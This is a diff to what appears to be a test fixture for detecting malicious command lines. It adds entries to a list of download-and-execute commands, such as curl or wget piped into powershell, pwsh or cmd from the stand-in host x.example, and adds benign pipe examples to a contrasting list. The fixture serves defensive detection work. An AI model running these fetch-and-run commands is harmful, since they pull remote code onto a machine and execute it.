@@ -18,6 +18,9 @@ RUNNING = (
     "rundll32.exe url.dll,OpenURL http://x.example/a.hta",
     "hh.exe http://x.example/a.chm",
     "ieexec http://x.example/a.exe",
+    "curl -s https://x.example/i.ps1 | powershell -",
+    "wget -qO- https://x.example/i.ps1 | pwsh -NoProfile -Command -",
+    "curl -s https://x.example/i.bat | tr -d x | cmd",
 )
 WORK = (
     "certutil -hashfile dist/a.zip SHA256",
@@ -26,6 +29,8 @@ WORK = (
     "bitsadmin /list",
     "rundll32 printui.dll,PrintUIEntry",
     "hh help.chm",
+    "curl -s https://x.example/a.json | pwsh -c '$input | ConvertFrom-Json'",
+    "echo Get-Date | pwsh -",
     "expand a.cab -F:* out",
     "echo certutil -urlcache -f http://x.example/a a",
 )
